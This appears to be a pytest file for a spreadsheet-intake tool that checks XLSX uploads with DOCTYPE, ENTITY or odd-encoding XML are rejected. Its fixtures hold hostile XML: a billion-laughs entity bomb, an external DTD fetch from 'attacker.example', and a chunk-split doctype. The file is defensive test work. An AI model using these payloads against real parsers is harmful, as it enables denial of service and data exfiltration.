"""xml_safety: DOCTYPE and ENTITY declarations and odd encodings are refused before any parser sees a part."""

from __future__ import annotations

import os
import zipfile

import pytest

from hostile import MAIN_NS, reason, rewrite, write_zip, xlsx_parts
from sheetflow.intake.package import CHUNK, Limits

BILLION_LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
                  + "".join(f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'
                            for i in range(1, 10))
                  + f']>\n<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr">'
                  '<is><t>&lol9;</t></is></c></row></sheetData></worksheet>')


def test_billion_laughs_in_valid_workbook(valid_xlsx, tmp_path):
    path = rewrite(valid_xlsx, tmp_path / "lol.xlsx", **{"xl/worksheets/sheet1.xml": BILLION_LAUGHS})
    assert "hidden XML instructions" in reason(path, code="doctype")
    assert "hidden XML instructions" in reason(path, Limits(max_rows=200, max_cols=10), code="doctype")


@pytest.mark.parametrize("xml", [
    '<?xml version="1.0"?><!doctype x SYSTEM "http://attacker.example/x.dtd"><x/>'.encode(),
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "e">]><x>&e;</x>'.encode("utf-16"),
    '<x><!ENTITY e "e"></x>'.encode(),
])
def test_doctype_and_entity_declarations(tmp_path, xml):
    path = write_zip(tmp_path / "dtd.xlsx", xlsx_parts(**{"xl/styles.xml": xml}))
    assert "hidden XML instructions" in reason(path, code="doctype")


def test_doctype_split_across_chunks(tmp_path):
    padding = os.urandom(CHUNK // 2).hex().encode()[: CHUNK - 4]   # incompressible, so no bomb alarm
    parts = xlsx_parts(**{"xl/customXml/item1.xml": padding + b"<!DOCTYPE x []><x/>"})
    assert "hidden XML instructions" in reason(write_zip(tmp_path / "split.xlsx", parts, zipfile.ZIP_STORED),
                                               code="doctype")


@pytest.mark.parametrize("start", [
    b'<?xml version="1.0" encoding="UTF-7"?><worksheet/>',
    b'<?xml version="1.0" encoding="cp037"?><worksheet/>',
    "<worksheet/>".encode("utf-32"),
])
def test_unusual_text_encoding(tmp_path, start):
    path = write_zip(tmp_path / "enc.xlsx", xlsx_parts(**{"xl/worksheets/sheet1.xml": start}))
    assert "text encoding that Excel never uses" in reason(path, code="odd-encoding")
